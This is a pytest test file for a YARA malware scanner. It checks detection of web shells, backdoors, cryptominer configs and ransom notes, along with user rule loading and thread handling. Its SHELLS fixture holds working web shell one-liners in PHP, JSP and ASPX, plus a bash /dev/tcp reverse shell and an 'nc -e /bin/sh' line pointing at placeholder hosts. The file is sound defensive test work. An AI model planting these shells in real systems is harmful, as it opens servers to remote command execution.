from __future__ import annotations

from pathlib import Path

import pytest

from aftermath.errors import UsageError
from aftermath.review.scanner import path_key
from aftermath.review.scanners.yara import YaraScanner, default_rule_files

SHELLS = {
    "/www/up/a.php": b'<?php if(isset($_POST["c"])) { system($_POST["c"]); } ?>',
    "/www/b.php": b"<?php @eval(base64_decode($_REQUEST['x'])); ?>",
    "/www/c.php": b'<?php eval(gzinflate(base64_decode("7X1rc9s4s")));',
    "/app/cmd.jsp": b'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "/iis/a.aspx": b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>',
    "/tmp/r.sh": b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    "/tmp/n.sh": b"nc -e /bin/sh 203.0.113.9 4444",
    "/opt/config.json": b'{"pools": [{"url": "stratum+tcp://pool.example.net:3333"}], "donate-level": 1}',
}
BENIGN = {
    "/www/index.php": b'<?php echo htmlspecialchars($_GET["name"]); system("uptime"); ?>',
    "/docs/readme.txt": b"How to decrypt the config with openssl; see the bitcoin wiki for background.",
    "/app/Main.java": b"Runtime.getRuntime().exec(new String[]{\"ls\"});",
    "/opt/notes.md": b"We looked at XMRig once for a talk.",
}


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    return YaraScanner.from_paths()


def test_default_rule_set_ships_and_compiles() -> None:
    names = {p.stem for p in default_rule_files()}
    assert {"webshells", "backdoors", "ransom_notes"} <= names


@pytest.mark.parametrize("path", sorted(SHELLS))
def test_default_rules_catch_shells_backdoors_and_miners(scanner: YaraScanner, path: str) -> None:
    found = scanner.scan(path, SHELLS[path])
    assert found and all(f.kind == "yara" and f.severity == "infected" and f.path == path for f in found)
    assert all(f.reason and not f.reason.startswith("matches YARA rule") for f in found)


@pytest.mark.parametrize("path", sorted(BENIGN))
def test_default_rules_leave_ordinary_files_alone(scanner: YaraScanner, path: str) -> None:
    assert scanner.scan(path, BENIGN[path]) == []


def test_ransom_note_rule_says_encrypted(scanner: YaraScanner) -> None:
    note = b"All your files have been encrypted. Pay 1 BTC for the decryption key. " + b"x" * 56 + b".onion"
    found = scanner.scan("/n.txt", note)
    assert {f.severity for f in found} == {"encrypted"}


def test_user_rules_from_a_folder_with_severity_meta(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "acme.yar").write_text(
        'rule acme_tool { meta: description = "the intruder\'s tool" severity = "suspicious" '
        'strings: $a = "ACME-BACKDOOR" condition: $a }')
    (tmp_path / "ignored.txt").write_text("not a rule")
    scanner = YaraScanner.from_paths([tmp_path], defaults=False)
    [finding] = scanner.scan("/x", b"...ACME-BACKDOOR...")
    assert (finding.rule, finding.severity, finding.reason) == ("acme:acme_tool", "suspicious", "the intruder's tool")
    assert scanner.scan("/x", b"nothing") == []


def test_broken_user_rules_are_a_usage_error_naming_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text("rule broken { condition: $missing }")
    with pytest.raises(UsageError, match="bad.yar"):
        YaraScanner.from_paths([bad])


def test_missing_rules_path_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="not found"):
        YaraScanner.from_paths([tmp_path / "nope.yar"])


def mixed_rule_folder(tmp_path: Path) -> Path:
    """A user's rule folder as found in the wild: a plain rule, a LOKI-style rule that reads the file's name
    and extension, and a broken file."""
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "plain.yar").write_text('rule acme { strings: $a = "ACME-BACKDOOR" condition: $a }')
    (folder / "loki_style.yar").write_text(
        'rule php_in_images { strings: $p = "<?php" condition: $p and extension == ".php" '
        'and filepath contains "/images" and filename != "index.php" }')
    (folder / "broken.yar").write_text("rule broken { condition: $missing }")
    return folder


def test_a_rule_folder_mixing_good_and_broken_files_works_and_names_what_it_skipped(tmp_path: Path) -> None:
    scanner = YaraScanner.from_paths([mixed_rule_folder(tmp_path)], defaults=False, strict=False)
    [(path, reason)] = scanner.skipped
    assert path.name == "broken.yar" and "$missing" in reason
    assert [f.rule for f in scanner.scan("/srv/x", b"..ACME-BACKDOOR..")] == ["plain:acme"]


def test_external_variables_are_set_per_file_as_loki_and_thor_do(tmp_path: Path) -> None:
    scanner = YaraScanner.from_paths([mixed_rule_folder(tmp_path)], defaults=False, strict=False)
    assert scanner.content_only is False and path_key(scanner, "/www/images/a.php") == "/www/images/a.php"
    page = b"<?php echo 1; ?>"
    assert [f.rule for f in scanner.scan("/www/images/a.php", page)] == ["loki_style:php_in_images"]
    assert scanner.scan("/www/images/index.php", page) == []
    assert scanner.scan("/www/a.php", page) == []
    assert scanner.scan("/www/images/a.txt", page) == []


def test_a_users_file_named_like_a_default_one_gets_a_namespace_of_its_own(tmp_path: Path) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "webshells.yar").write_text(
            f'rule php_exec_on_request_input {{ strings: $a = "MARK-{folder}" condition: $a }}')
    scanner = YaraScanner.from_paths([tmp_path], strict=True)
    assert [f.rule for f in scanner.scan("/x", b"MARK-b")] == ["webshells_3:php_exec_on_request_input"]
    assert [f.rule for f in scanner.scan("/x", b"<?php echo `$_GET['q']`; ?>")] == [
        "webshells:php_exec_on_request_input"]


def test_strict_rules_stop_at_the_broken_file(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="broken.yar"):
        YaraScanner.from_paths([mixed_rule_folder(tmp_path)], strict=True)


def test_default_rules_alone_stay_content_only() -> None:
    assert YaraScanner.from_paths().content_only is True


def test_a_scanner_used_on_a_live_thread_is_dropped_on_another_without_an_error() -> None:
    """yara-x raises "unsendable" when a scanner made on one thread is dropped on another: the rule set may
    die on the main thread while a pool thread that scanned with it lives on (a web server's, a test's)."""
    import gc
    import sys
    import threading

    raised: list[BaseException | None] = []
    hook = sys.unraisablehook
    sys.unraisablehook = lambda u: raised.append(u.exc_value)
    used, finish = threading.Event(), threading.Event()
    scanner: YaraScanner | None = YaraScanner.from_paths()

    def scan_then_wait() -> None:
        assert scanner is not None and scanner.scan("/www/b.php", SHELLS["/www/b.php"])
        used.set()
        finish.wait(30)

    pool_thread = threading.Thread(target=scan_then_wait)
    try:
        pool_thread.start()
        assert used.wait(30)
        scanner = None
        gc.collect()
        finish.set()
        pool_thread.join(30)
        gc.collect()
    finally:
        sys.unraisablehook = hook
    assert raised == []


def test_each_thread_keeps_a_few_rule_sets_and_drops_the_oldest_on_itself(tmp_path: Path) -> None:
    from aftermath.review.scanners import yara

    rule = tmp_path / "r.yar"
    rule.write_text('rule mark { strings: $a = "marker-42" condition: $a }\n')
    sets = [YaraScanner.from_paths([rule], defaults=False) for _ in range(yara._KEEP + 2)]
    for s in sets:
        assert [f.rule for f in s.scan("/x", b"the marker-42 here")] == ["r:mark"]
    assert len(yara._THREAD.scanners) == yara._KEEP
    assert sets[0]._token not in yara._THREAD.scanners and sets[-1]._token in yara._THREAD.scanners
    assert [f.rule for f in sets[0].scan("/x", b"marker-42")] == ["r:mark"]  # made again when needed
